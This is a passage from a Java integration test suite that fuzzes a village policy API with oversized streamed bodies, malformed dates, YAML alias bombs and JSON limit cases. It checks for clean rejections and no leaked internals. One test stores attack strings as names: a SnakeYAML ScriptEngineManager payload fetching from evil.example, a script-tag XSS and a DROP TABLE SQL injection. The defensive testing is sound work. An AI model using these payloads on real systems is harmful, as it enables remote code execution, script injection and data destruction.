        for (char c = 'b'; c <= 'i'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = c;
        }
        return yaml.toString();
    }

    private static byte[] filled(int bytes) {
        byte[] body = new byte[bytes];
        Arrays.fill(body, (byte) 'x');
        for (int i = 99; i < bytes; i += 100) {
            body[i] = '\n';
        }
        return body;
    }

    private static Hostile text(String name, String path, String text, String type, Expect expect, int status) {
        return new Hostile(name, "PUT", path, type, text.getBytes(StandardCharsets.UTF_8), Map.of(), expect, status);
    }

    /** The simulation's window in the query string. */
    private List<Hostile> simulations(Fixture f) {
        List<Hostile> cases = new ArrayList<>();
        String simulate = draft(f.simulateVillage) + "/simulate";
        cases.add(new Hostile("simulate: a month", "POST", simulate + "?from=2026-10-01&to=2026-11-01", null, null,
                Map.of(), Expect.VALID, 200));
        List<String> bad = new ArrayList<>(lines("injections.txt"));
        bad.addAll(List.of("+999999999-12-31", "-999999999-01-01", "0000-01-01", "9999-12-31T23:59", "2026-02-30",
                "", "2026-11-01T00:00+99:00", "1".repeat(500)));
        for (String value : bad) {
            cases.add(new Hostile("simulate: from " + value.substring(0, Math.min(value.length(), 40)), "POST",
                    simulate + "?from=" + seg(value) + "&to=2026-11-01", null, null, Map.of(), Expect.REJECTED, 400));
            cases.add(new Hostile("simulate: to " + value.substring(0, Math.min(value.length(), 40)), "POST",
                    simulate + "?from=2026-10-01&to=" + seg(value), null, null, Map.of(), Expect.REJECTED, 400));
        }
        cases.add(new Hostile("simulate: ten years", "POST", simulate + "?from=2016-01-01&to=2026-01-01", null, null,
                Map.of(), Expect.REJECTED, 400));
        cases.add(new Hostile("simulate: backwards", "POST", simulate + "?from=2026-11-01&to=2026-10-01", null, null,
                Map.of(), Expect.REJECTED, 400));
        cases.add(new Hostile("simulate: the window far in the future", "POST",
                simulate + "?from=9998-01-01&to=9998-12-31", null, null, Map.of(), Expect.EITHER, 0));
        cases.add(new Hostile("simulate: no window", "POST", simulate, null, null, Map.of(), Expect.REJECTED, 400));
        cases.add(new Hostile("simulate: the parameter twice", "POST",
                simulate + "?from=2026-10-01&from=2026-09-01&to=2026-11-01", null, null, Map.of(), Expect.EITHER, 0));
        cases.add(new Hostile("simulate: a junk JSON body is not read", "POST",
                simulate + "?from=2026-10-01&to=2026-11-01", JSON_TYPE, "[[[[".getBytes(StandardCharsets.UTF_8),
                Map.of(), Expect.VALID, 200));
        return cases;
    }

    /**
     * 50 MB bodies, never held in memory: declared (Content-Length) and streamed, chunked, and
     * declared with Expect: 100-continue. Filled with JSON white space the reader must get through,
     * or with one endless string.
     */
    private List<Hostile> fiftyMegabytes(Fixture f) {
        byte[] space = " ".getBytes(StandardCharsets.UTF_8);
        byte[] letters = "积分abc".getBytes(StandardCharsets.UTF_8);
        byte[] object = "{\"evidence\":".getBytes(StandardCharsets.UTF_8);
        byte[] string = "{\"evidence\":[{\"id\":\"".getBytes(StandardCharsets.UTF_8);
        byte[] text = new byte[0];
        String evaluations = evaluations(f.evalVillage);
        return List.of(
                streamed("50 MB evaluations, Content-Length", "POST", evaluations, JSON_TYPE,
                        new Streamed(object, space, FIFTY_MB, false, false), 413),
                streamed("50 MB evaluations, chunked white space", "POST", evaluations, JSON_TYPE,
                        new Streamed(object, space, FIFTY_MB, true, false), 413),
                streamed("50 MB evaluations, chunked endless string", "POST", evaluations, JSON_TYPE,
                        new Streamed(string, letters, FIFTY_MB, true, false), 400),
                streamed("50 MB evaluations, Expect: 100-continue", "POST", evaluations, JSON_TYPE,
                        new Streamed(object, space, FIFTY_MB, false, true), 413),
                streamed("50 MB member, chunked", "PUT", memberPath("tanyin", unique("hz-m")), JSON_TYPE,
                        new Streamed("{\"roles\":".getBytes(StandardCharsets.UTF_8), space, FIFTY_MB, true, false), 413),
                streamed("50 MB village, Content-Length", "PUT", villagePath(unique("hz-v")), JSON_TYPE,
                        new Streamed("{\"name\":".getBytes(StandardCharsets.UTF_8), space, FIFTY_MB, false, false), 413),
                streamed("50 MB village, chunked endless name", "PUT", villagePath(unique("hz-v")), JSON_TYPE,
                        new Streamed("{\"name\":\"".getBytes(StandardCharsets.UTF_8), letters, FIFTY_MB, true, false), 400),
                streamed("50 MB publish, chunked", "POST", draft(f.publishVillage) + "/publish", JSON_TYPE,
                        new Streamed("{\"author\":".getBytes(StandardCharsets.UTF_8), space, FIFTY_MB, true, false), 413),
                streamed("50 MB restore, Content-Length", "POST", policy(f.restoreVillage) + "/versions/1/restore",
                        JSON_TYPE, new Streamed(object, space, FIFTY_MB, false, false), 413),
                streamed("50 MB draft file, chunked", "PUT", draftFile(f.filesVillage, "big.drl"), TEXT_UTF8,
                        new Streamed(text, letters, FIFTY_MB, true, false), 413),
                streamed("50 MB draft file, Content-Length", "PUT", draftFile(f.filesVillage, "big.drl"), TEXT_UTF8,
                        new Streamed(text, letters, FIFTY_MB, false, false), 413),
                streamed("50 MB draft file, Expect: 100-continue", "PUT", draftFile(f.filesVillage, "big.drl"),
                        TEXT_UTF8, new Streamed(text, letters, FIFTY_MB, false, true), 413),
                streamed("50 MB to simulate, Content-Length", "POST",
                        draft(f.simulateVillage) + "/simulate?from=2026-10-01&to=2026-11-01", JSON_TYPE,
                        new Streamed(object, space, FIFTY_MB, false, false), 413),
                // an endpoint that reads no body answers and the rest is discarded unread
                new Hostile("50 MB to simulate, chunked and unread", "POST",
                        draft(f.simulateVillage) + "/simulate?from=2026-10-01&to=2026-11-01", JSON_TYPE,
                        new Streamed(object, space, FIFTY_MB, true, false), Map.of(), Expect.EITHER, 0));
    }

    private static Hostile streamed(String name, String method, String path, String type, Streamed body,
            int status) {
        return new Hostile(name, method, path, type, body, Map.of(), Expect.REJECTED, status);
    }

    // ------------------------------------------------------------------------------------------
    // running a case

    /** Each case and its answer, written to {@code target/hostile-corpus.txt} for review. */
    private static final List<String> REPORT = java.util.Collections.synchronizedList(new ArrayList<>());

    @AfterAll
    static void writeReport() throws IOException {
        java.nio.file.Files.write(java.nio.file.Path.of("target", "hostile-corpus.txt"), REPORT,
                StandardCharsets.UTF_8);
    }

    private void check(Hostile c) {
        Map<String, Long> before = allRowCounts();
        Response response = send(c);
        String what = c.name() + " → " + response.status() + " " + abbreviate(response.raw());
        REPORT.add(response.status() + "\t" + c.name().replace("\n", "\\n") + "\t"
                + response.body().path("detail").asText(response.raw().isEmpty() ? "" : "(2xx body)"));
        assertThat(response.status()).as(what).isBetween(200, 499);
        if (c.status() != 0) {
            assertThat(response.status()).as(what).isEqualTo(c.status());
        }
        switch (c.expect()) {
            case VALID -> assertThat(response.status()).as(what).isBetween(200, 299);
            case REJECTED -> assertThat(response.status()).as(what).isBetween(400, 499);
            case EITHER -> {
            }
        }
        if (response.status() >= 400) {
            assertProblem(c, response, what);
            assertThat(allRowCounts()).as("row counts after " + what).isEqualTo(before);
        } else if (!response.raw().isEmpty()) {
            assertThat(response.isProblem()).as(what).isFalse();
            assertThat(response.body().isMissingNode()).as(what + " is JSON").isFalse();
        }
    }

    /** A problem+json whose status is the response's, with a title and a detail that show no internals. */
    private static void assertProblem(Hostile c, Response response, String what) {
        assertThat(response.isProblem()).as(what + " Content-Type " + response.contentType()).isTrue();
        assertThat(response.body().path("status").asInt()).as(what).isEqualTo(response.status());
        assertThat(response.body().path("title").asText()).as(what).isNotBlank();
        assertThat(response.body().path("detail").asText()).as(what).isNotBlank();
        assertNoLeak(c.sent(), response.raw(), what);
    }

    /** Fails when {@code raw} holds a marker of internals that the client did not send itself. */
    static void assertNoLeak(String sent, String raw, String what) {
        for (String marker : LEAKS) {
            if (raw.contains(marker) && !sent.contains(marker)) {
                throw new AssertionError("the response shows internals (" + marker + "): " + what);
            }
        }
    }

    private static String abbreviate(String text) {
        return text.length() > 400 ? text.substring(0, 400) + "…" : text;
    }

    /** Row counts of every table of the schema, found in information_schema, so new tables are counted too. */
    private Map<String, Long> allRowCounts() {
        List<String> tables = jdbc.queryForList("SELECT table_name FROM information_schema.tables "
                + "WHERE table_schema = DATABASE() AND table_type = 'BASE TABLE' ORDER BY table_name", String.class);
        assertThat(tables).contains("villages", "members", "evidence", "ledger", "policy_versions", "policy_drafts");
        String union = String.join(" UNION ALL ", tables.stream()
                .map(t -> "SELECT '" + t + "' AS t, COUNT(*) AS n FROM `" + t + "`").toList());
        Map<String, Long> counts = new LinkedHashMap<>();
        jdbc.query(union, row -> {
            counts.put(row.getString("t"), row.getLong("n"));
        });
        return counts;
    }

    private Response send(Hostile c) {
        if (c.body() instanceof Streamed streamed) {
            return raw(c, streamed);
        }
        HttpRequest.BodyPublisher body = c.body() == null ? HttpRequest.BodyPublishers.noBody()
                : HttpRequest.BodyPublishers.ofByteArray((byte[]) c.body());
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + c.path()))
                .timeout(Duration.ofSeconds(60)).method(c.method(), body);
        if (c.contentType() != null) {
            request.header("Content-Type", c.contentType());
        }
        request.header("Accept", c.headers().getOrDefault("Accept", "application/json, application/problem+json"));
        authenticate(request::header);
        c.headers().forEach((name, value) -> {
            if (!name.equals("Accept")) {
                request.header(name, value);
            }
        });
        try {
            HttpResponse<String> response = HTTP.send(request.build(),
                    HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
            return response(response.statusCode(), response.headers().firstValue("Content-Type").orElse(null),
                    response.body());
        } catch (IOException e) {
            throw new UncheckedIOException(c.name(), e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /** Adds the administrator's key: the corpus is about input, not about who may send it. */
    private static void authenticate(java.util.function.BiConsumer<String, String> header) {
        header.accept(API_KEY, ADMIN_KEY);
    }

    private static Response response(int status, String contentType, String raw) {
        JsonNode body;
        try {
            body = raw.isEmpty() ? JSON.missingNode() : JSON.readTree(raw);
        } catch (IOException notJson) {
            body = JSON.missingNode();
        }
        return new Response(status, contentType, body, raw);
    }

    /**
     * Sends a streamed body over a plain socket: the body is generated 64 KB at a time by a writer
     * thread while the response is read, so a server that answers early (and stops reading) is seen
     * answering rather than as a broken pipe.
     */
    private Response raw(Hostile c, Streamed body) {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(60_000);
            OutputStream out = socket.getOutputStream();
            StringBuilder head = new StringBuilder(c.method()).append(' ').append(c.path()).append(" HTTP/1.1\r\n")
                    .append("Host: 127.0.0.1:").append(port).append("\r\n")
                    .append("Accept: application/json, application/problem+json\r\n")
                    .append("Content-Type: ").append(c.contentType()).append("\r\n");
            authenticate((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
            head.append(body.chunked() ? "Transfer-Encoding: chunked\r\n" : "Content-Length: " + body.length() + "\r\n");
            if (body.expectContinue()) {
                head.append("Expect: 100-continue\r\n");
            }
            out.write(head.append("\r\n").toString().getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            Thread writer = new Thread(() -> write(out, body), "hostile-writer");
            writer.setDaemon(true);
            if (!body.expectContinue()) {
                writer.start();
            }
            InputStream in = new BufferedInputStream(socket.getInputStream());
            Response response;
            while (true) {
                response = readResponse(in);
                if (response.status() != 100) {
                    break;
                }
                writer.start(); // the server asked for the body after all
            }
            socket.close();
            writer.join(10_000);
            return response;
        } catch (IOException e) {
            throw new UncheckedIOException(c.name(), e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static void write(OutputStream out, Streamed body) {
        // whole units in a block, so a multi-byte character is never split between blocks
        byte[] block = new byte[64 * 1024 / body.unit().length * body.unit().length];
        for (int i = 0; i < block.length; i++) {
            block[i] = body.unit()[i % body.unit().length];
        }
        try {
            long left = body.length();
            boolean first = true;
            while (left > 0) {
                byte[] bytes = block;
                if (first) {
                    bytes = block.clone();
                    System.arraycopy(body.prefix(), 0, bytes, 0, body.prefix().length);
                    first = false;
                }
                int n = (int) Math.min(bytes.length, left);
                if (body.chunked()) {
                    out.write((Integer.toHexString(n) + "\r\n").getBytes(StandardCharsets.ISO_8859_1));
                }
                out.write(bytes, 0, n);
                if (body.chunked()) {
                    out.write("\r\n".getBytes(StandardCharsets.ISO_8859_1));
                }
                left -= n;
            }
            if (body.chunked()) {
                out.write("0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
            }
            out.flush();
        } catch (IOException closed) {
            // the server answered and closed the connection: expected
        }
    }

    /** Reads one HTTP/1.1 response: status line, headers, and a body of Content-Length, chunked or to the end. */
    private static Response readResponse(InputStream in) throws IOException {
        String status = line(in);
        Map<String, String> headers = new LinkedHashMap<>();
        for (String header = line(in); !header.isEmpty(); header = line(in)) {
            int colon = header.indexOf(':');
            headers.put(header.substring(0, colon).trim().toLowerCase(Locale.ROOT), header.substring(colon + 1).trim());
        }
        int code = Integer.parseInt(status.split(" ")[1]);
        if (code == 100) {
            return new Response(100, null, JSON.missingNode(), "");
        }
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        if (headers.containsKey("content-length")) {
            body.write(in.readNBytes(Integer.parseInt(headers.get("content-length"))));
        } else if ("chunked".equalsIgnoreCase(headers.get("transfer-encoding"))) {
            for (int size = Integer.parseInt(line(in).split(";")[0].trim(), 16); size > 0;
                    size = Integer.parseInt(line(in).split(";")[0].trim(), 16)) {
                body.write(in.readNBytes(size));
                line(in);
            }
        } else {
            body.write(in.readAllBytes());
        }
        return response(code, headers.get("content-type"), body.toString(StandardCharsets.UTF_8));
    }

    private static String line(InputStream in) throws IOException {
        StringBuilder line = new StringBuilder();
        for (int b = in.read(); b != -1 && b != '\n'; b = in.read()) {
            if (b != '\r') {
                line.append((char) b);
            }
        }
        return line.toString();
    }

    // ------------------------------------------------------------------------------------------
    // targeted checks

    @Test
    void occurredAtAheadOfTheVillageClockIsRejectedNamingTheField() {
        String village = publishedVillage("hz-clock");
        String member = unique("m");
        register(village, member);
        ZoneId zone = ZoneId.of("Asia/Shanghai");
        DateTimeFormatter minutes = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm");
        Map<String, Long> before = allRowCounts();
        Response ahead = post(evaluations(village), batch(false, clean(member,
                LocalDateTime.now(zone).plusMinutes(15).format(minutes))));
        assertThat(ahead.status()).as(ahead.raw()).isEqualTo(400);
        assertThat(ahead.isProblem()).isTrue();
        assertThat(ahead.body().path("detail").asText()).startsWith("evidence[0].occurredAt")
                .contains("evidence.maxFutureMinutes");
        assertThat(ahead.body().path("errors").findValuesAsText("field")).containsExactly("evidence[0].occurredAt");
        assertThat(allRowCounts()).isEqualTo(before);

        // with an offset, the same instant: still ahead
        String utc = LocalDateTime.now(ZoneId.of("UTC")).plusMinutes(15).format(minutes) + "Z";
        assertThat(post(evaluations(village), batch(false, clean(member, utc))).status()).isEqualTo(400);

        // a few minutes ahead of the clock is within the default ten
        Response soon = post(evaluations(village), batch(false, clean(member,
                LocalDateTime.now(zone).plusMinutes(3).format(minutes))));
        assertThat(soon.status()).as(soon.raw()).isEqualTo(200);
    }

    @Test
    void maxFutureMinutesIsAVillageSetting() {
        String village = newVillage("hz-ahead");
        assertThat(putText(draftFile(village, "village.yaml"), villageYaml(village)
                + "settings:\n  evidence.maxFutureMinutes: \"120\"\n").status()).isEqualTo(200);
        assertThat(publish(village, "张三", "两小时").status()).isEqualTo(201);
        String member = unique("m");
        register(village, member);
        ZoneId zone = ZoneId.of("Asia/Shanghai");
        DateTimeFormatter minutes = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm");
        Response hour = post(evaluations(village), batch(false, clean(member,
                LocalDateTime.now(zone).plusMinutes(60).format(minutes))));
        assertThat(hour.status()).as(hour.raw()).isEqualTo(200);
        Response threeHours = post(evaluations(village), batch(false, clean(member,
                LocalDateTime.now(zone).plusMinutes(180).format(minutes))));
        assertThat(threeHours.status()).as(threeHours.raw()).isEqualTo(400);
        assertThat(threeHours.body().path("detail").asText()).startsWith("evidence[0].occurredAt").contains("120 minutes");
    }

    private static ObjectNode clean(String member, String occurredAt) {
        return JSON.createObjectNode().put("id", unique("e")).put("type", "CLEANING").put("memberId", member)
                .put("occurredAt", occurredAt).put("status", "APPROVED");
    }

    @Test
    void everyErrorStatusIsProblemJsonWithAPlainDetail() {
        Map<String, Response> responses = new LinkedHashMap<>();
        responses.put("404 unknown path", get("/api/v1/no/such/thing"));
        responses.put("404 outside the API", get("/no-such-page.html"));
        responses.put("404 the error page itself", get("/error"));
        responses.put("404 unknown village", get("/api/v1/villages/nowhere-at-all"));
        responses.put("405", get(evaluations("tanyin")));
        responses.put("400 path parameter", get(policy("tanyin") + "/versions/abc"));
        responses.put("400 query parameter", get(memberPath("tanyin", "m1") + "/ledger?size=0"));
        for (Map.Entry<String, Response> entry : responses.entrySet()) {
            Response response = entry.getValue();
            String what = entry.getKey() + " → " + response.status() + " " + response.raw();
            assertThat(response.status()).as(what).isEqualTo(Integer.parseInt(entry.getKey().substring(0, 3)));
            assertThat(response.isProblem()).as(what).isTrue();
            assertThat(response.body().path("status").asInt()).as(what).isEqualTo(response.status());
            assertThat(response.body().path("title").asText()).as(what).isNotBlank();
            assertThat(response.body().path("detail").asText()).as(what).isNotBlank();
            assertNoLeak("", response.raw(), what);
        }
        assertThat(responses.get("400 path parameter").body().path("detail").asText())
                .isEqualTo("version: must be a whole number");
        assertThat(responses.get("405").body().path("detail").asText()).contains("POST");
    }

    @Test
    void aGetWhoseAcceptExcludesJsonIsA406ProblemAndAWriteIsRefusedBeforeItRuns() {
        Hostile csv = new Hostile("GET with Accept text/csv", "GET", "/api/v1/villages", null, null,
                Map.of("Accept", "text/csv"), Expect.REJECTED, 406);
        Response response = send(csv);
        assertThat(response.status()).as(response.raw()).isEqualTo(406);
        assertThat(response.isProblem()).as(response.contentType()).isTrue();

        String member = unique("m");
        Map<String, Long> before = allRowCounts();
        Response write = send(new Hostile("PUT with Accept text/csv", "PUT", memberPath("tanyin", member), JSON_TYPE,
                "{\"householdId\":\"h\"}".getBytes(StandardCharsets.UTF_8), Map.of("Accept", "text/csv"),
                Expect.REJECTED, 406));
        assertThat(write.status()).as(write.raw()).isEqualTo(406);
        assertThat(write.isProblem()).isTrue();
        assertThat(allRowCounts()).isEqualTo(before);
    }

    @Autowired
    private MappingJackson2HttpMessageConverter converter;

    @Autowired
    private ObjectMapper sharedMapper;

    @Test
    void theRequestReaderHasReadLimitsAndTheSharedMapperIsUnchanged() throws IOException {
        ObjectMapper reader = converter.getObjectMapper();
        assertThat(reader).isNotSameAs(sharedMapper);
        assertThat(reader.readTree("[".repeat(64) + "]".repeat(64))).isNotNull();
        assertThatThrownBy(() -> reader.readTree("[".repeat(65) + "]".repeat(65)))
                .isInstanceOf(StreamConstraintsException.class);
        assertThatThrownBy(() -> reader.readTree("{\"a\":1,\"a\":2}")).isInstanceOf(JsonParseException.class)
                .hasMessageContaining("Duplicate field 'a'");
        assertThat(reader.getFactory().streamReadConstraints().getMaxStringLength()).isEqualTo(100_000);
        assertThat(reader.getFactory().streamReadConstraints().getMaxDocumentLength()).isEqualTo(2L * 1024 * 1024);
        // stored results are read by the shared mapper, as before
        assertThat(sharedMapper.readTree("{\"a\":1,\"a\":2}").get("a").asInt()).isEqualTo(2);
        assertThat(sharedMapper.readTree("[".repeat(65) + "]".repeat(65))).isNotNull();
    }

    @Test
    void hostileTextIsStoredAndShownExactlyAsSent() {
        String village = publishedVillage("hz-text");
        for (String name : List.of("!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]",
                "<script>alert(1)</script>", "'; DROP TABLE ledger; --", "*anchor &anchor <<: *anchor",
                "檀阴社区 👨‍🌾", "a: b # c")) {
            Response renamed = put(villagePath(village), Map.of("name", name, "author", "张三"));
            assertThat(renamed.status()).as(renamed.raw()).isEqualTo(200);
            assertThat(renamed.body().path("name").asText()).isEqualTo(name);
            assertThat(get(villagePath(village)).body().path("name").asText()).isEqualTo(name);
            // the published village.yaml reads back as the same name, not as a YAML tag or alias
            String yaml = get(policy(village)).body().path("version").isMissingNode() ? null
                    : get(policy(village) + "/versions/" + get(policy(village)).body().path("version").asInt())
                            .body().path("contents").path("village.yaml").asText();
            assertThat(yaml).isNotNull();
            Object parsed = new org.yaml.snakeyaml.Yaml(new org.yaml.snakeyaml.constructor.SafeConstructor(
                    new org.yaml.snakeyaml.LoaderOptions())).<Map<String, Object>>load(yaml).get("name");
            assertThat(parsed).isEqualTo(name);
        }
    }

    @Test
    void unknownFieldsAreNamedWithTheKnownOnes() {
        Response response = put(memberPath("tanyin", unique("m")), Map.of("householdId", "h", "role", "RESIDENT"));
        assertThat(response.status()).as(response.raw()).isEqualTo(400);
        assertThat(response.body().path("detail").asText())
                .isEqualTo("role: is not a field of this request; the fields are householdId, joinedOn, roles");
    }

    @Test
    void duplicateKeysAndLimitsAreNamedPlainly() {
        Response duplicate = post(evaluations("tanyin"), "{\"evidence\":[],\"evidence\":[]}");
        assertThat(duplicate.status()).isEqualTo(400);
        assertThat(duplicate.body().path("detail").asText()).startsWith("the body has the field evidence twice");

        Response notAnObject = post(evaluations("tanyin"), "[".repeat(NESTING));
        assertThat(notAnObject.status()).isEqualTo(400);
        assertThat(notAnObject.body().path("detail").asText()).isEqualTo("the body must be an object");

        Response longString = post(evaluations("tanyin"), "{\"evidence\":[{\"id\":\"" + "x".repeat(100_001) + "\"}]}");
        assertThat(longString.status()).isEqualTo(400);
        assertThat(longString.body().path("detail").asText())
                .isEqualTo("a string in the JSON is longer than the service accepts (at most 100000)");

        Response wrongType = post(evaluations("tanyin"), "{\"evidence\":[{\"id\":\"e\",\"minutes\":\"90\"}]}");
        assertThat(wrongType.status()).isEqualTo(400);
        assertThat(wrongType.body().path("detail").asText()).isEqualTo("evidence[0].minutes: must be a whole number");
    }
}
